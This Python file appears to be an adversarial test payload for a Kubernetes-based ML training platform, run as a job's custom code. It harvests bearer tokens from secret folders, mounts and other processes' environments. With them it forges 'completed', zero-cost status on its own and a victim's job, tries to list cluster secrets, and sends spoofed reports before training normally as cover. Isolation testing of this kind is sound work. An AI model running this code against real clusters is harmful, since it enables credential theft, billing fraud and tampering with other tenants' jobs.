# A job's customCode that attacks the platform from inside its worker (loaded as text; VICTIM and ENDPOINT are
# replaced).
# It knows nothing of the platform's internals: it searches its environment and file system like an intruder,
# prints what every attempt got back (one JSON line), then trains normally for a while.
import json
import os
import ssl
import time
import urllib.error
import urllib.request

VICTIM = "@VICTIM@"
ENDPOINT = "@ENDPOINT@"
INSECURE = ssl.create_default_context()
INSECURE.check_hostname = False
INSECURE.verify_mode = ssl.CERT_NONE


def call(method, url, body=None, token=None, content_type="application/json"):
    headers = {"Content-Type": content_type}
    if token:
        headers["Authorization"] = "Bearer " + token
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(url, data=data, method=method, headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=10, context=INSECURE) as response:
            return response.status, response.read(2000).decode(errors="replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read(2000).decode(errors="replace")
    except OSError as e:
        return -1, type(e).__name__


def files_under(roots, limit=50000):
    seen = 0
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                seen += 1
                if seen > limit:
                    return
                yield os.path.join(folder, name)


def mount_sources():
    """The folders on the machine behind this container's mounts (mountinfo's root field), and their parents: where
    the node keeps this pod's (and maybe other pods') volumes."""
    found = set()
    try:
        with open("/proc/self/mountinfo") as handle:
            lines = handle.read().splitlines()
    except OSError:
        return []
    for line in lines:
        root = line.split()[3]
        for _ in range(6):
            if root in ("/", ""):
                break
            found.add(root)
            root = os.path.dirname(root)
    return sorted(p for p in found if not p.startswith(("/proc", "/sys", "/dev", "/usr")))


def other_processes():
    """Every other process's view: its root folder (its mounts) and environment, if the kernel lets us read them."""
    views = {"seen": 0, "rootsReadable": [], "environReadable": 0}
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        views["seen"] += 1
        try:
            os.listdir("/proc/" + pid + "/root/")
            views["rootsReadable"].append(pid)
        except OSError:
            pass
        try:
            with open("/proc/" + pid + "/environ", "rb") as handle:
                handle.read(1)
            views["environReadable"] += 1
        except OSError:
            pass
    return views


def looks_like_token(text):
    return text.count(".") == 2 and text.startswith("eyJ") and " " not in text


def find_tokens(views):
    """Every readable file (or process environment) holding a bearer token (a JWT), anywhere a secret could be:
    the usual secret folders, every mounted folder and the machine folders behind the mounts, and every other
    process's mounts and environment."""
    roots = ["/var/run/secrets", "/run/secrets", "/run", "/tmp", "/var/run"]
    roots += list(json.loads(os.environ.get("TENSORONE_SANDBOX_PATH_MAP", "{}")).values())
    roots += [v for v in os.environ.values() if v.startswith("/") and os.path.isdir(v)]
    roots += mount_sources()
    for pid in views["rootsReadable"]:
        roots += ["/proc/" + pid + "/root/run", "/proc/" + pid + "/root/var/run/secrets"]
    candidates = list(files_under(roots))
    candidates += [v for v in os.environ.values() if v.startswith("/") and os.path.isfile(v)]
    tokens = {}
    for path in candidates:
        try:
            with open(path) as handle:
                text = handle.read(20000).strip()
        except (OSError, UnicodeDecodeError):
            continue
        if looks_like_token(text):
            tokens[path] = text
    for pid in os.listdir("/proc"):
        try:
            with open("/proc/" + pid + "/environ", "rb") as handle:
                variables = handle.read().split(b"\0")
        except OSError:
            continue
        for variable in variables:
            value = variable.partition(b"=")[2].decode(errors="replace").strip()
            if looks_like_token(value):
                tokens["/proc/" + pid + "/environ"] = value
    return tokens, len(candidates), roots


def own_job():
    for value in os.environ.values():
        if value.startswith("/") and os.path.isfile(value):
            try:
                with open(value) as handle:
                    target = json.load(handle).get("statusTarget")
            except (OSError, ValueError, AttributeError):
                continue
            if target:
                return target["namespace"], target["name"]
    raise RuntimeError("no job found")


def train(context):
    namespace, name = own_job()
    api = "https://{}:{}".format(os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"])
    jobs = api + "/apis/training.tensorone.ai/v1/namespaces/" + namespace + "/trainingjobs/"
    report_urls = [v for v in os.environ.values() if v.startswith("http://") or v.startswith("https://")]
    views = other_processes()
    tokens, searched, roots = find_tokens(views)
    results = {
        "tokens": sorted(tokens),
        "reportUrls": len(report_urls),
        "api": {},
        "reports": {},
        "searchedFiles": searched,
        "searchedRoots": roots,
        "processes": views,
    }
    forged_status = {
        "phase": "completed",
        "resourceUsage": {"gpuSeconds": 0, "gpuHours": 0, "cost": 0, "accruedUntil": "2099-01-01T00:00:00Z"},
        "progress": {"currentStep": 999999, "percentage": 100},
    }
    # 1. The Kubernetes API with every token found (and with none), on its own job and on the victim's.
    for label, token in [("none", None)] + [(path, token) for path, token in tokens.items()]:
        for job in (name, VICTIM):
            code, _ = call(
                "PATCH",
                jobs + job + "/status",
                {"status": forged_status},
                token,
                "application/merge-patch+json",
            )
            results["api"][label + " -> " + ("own" if job == name else "victim")] = code
        results["api"][label + " -> list secrets"] = call("GET", api + "/api/v1/secrets", token=token)[0]
    # 2. Forged reports to the report endpoint with the reporting token(s).
    forged = {
        "phase": {"phase": "completed"},
        "resourceUsage": {"resourceUsage": forged_status["resourceUsage"]},
        "cost": {"cost": 0},
        "victim by name": {"name": VICTIM, "namespace": namespace, "progress": {"currentStep": 999999}},
        "nan loss": "NAN",
        "huge": {"history": [{"step": i, "time": "2026-01-01T00:00:00Z"} for i in range(60000)]},
    }
    # Through the report URL found in the pod (with no token, and with each token found) and straight to the
    # operator's endpoint (its URL guessed right: given by the test).
    targets = [("found", url) for url in report_urls] + [("operator", ENDPOINT)]
    for where, url in targets:
        for token_label, token in [("no token", None), *tokens.items()]:
            sent = results["reports"].setdefault(where + " with " + token_label, {})
            for label, body in forged.items():
                if body == "NAN":
                    data = b'{"metrics": {"currentLoss": NaN}}'
                    request = urllib.request.Request(
                        url,
                        data=data,
                        method="POST",
                        headers={
                            "Content-Type": "application/json",
                            **({"Authorization": "Bearer " + token} if token else {}),
                        },
                    )
                    try:
                        with urllib.request.urlopen(request, timeout=10, context=INSECURE) as response:
                            code, text = response.status, response.read().decode()
                    except urllib.error.HTTPError as e:
                        code, text = e.code, e.read().decode()
                    except OSError as e:
                        code, text = -1, type(e).__name__
                else:
                    code, text = call("POST", url, body, token)
                sent[label] = [code, text[:300]]
            # The victim's job named in the URL: the endpoint takes the job from the token, never from the request.
            code, _ = call(
                "POST", url + "?job=" + VICTIM + "&name=" + VICTIM, {"progress": {"currentStep": 1}}, token
            )
            sent["victim in query"] = [code, ""]
            code, _ = call(
                "POST",
                url.rstrip("/") + "/" + namespace + "/" + VICTIM,
                {"progress": {"currentStep": 1}},
                token,
            )
            sent["victim in path"] = [code, ""]
        garbage = call("POST", url, {"progress": {"currentStep": 1}}, "eyJ.x.y")
        results["reports"][where + " with garbage token"] = {"own progress": list(garbage)}
    print("ATTACK-RESULTS " + json.dumps(results, sort_keys=True), flush=True)
    # 3. Then train like anyone: progress, metrics and a checkpoint through the platform's own channel.
    context.set_total_steps(40)
    for step in range(1, 41):
        if context.should_stop():
            return
        context.report(step=step, loss=2.0 / step, learning_rate=0.001)
        if step == 20:
            context.save_checkpoint({"step": step}, step=step)
        time.sleep(0.25)
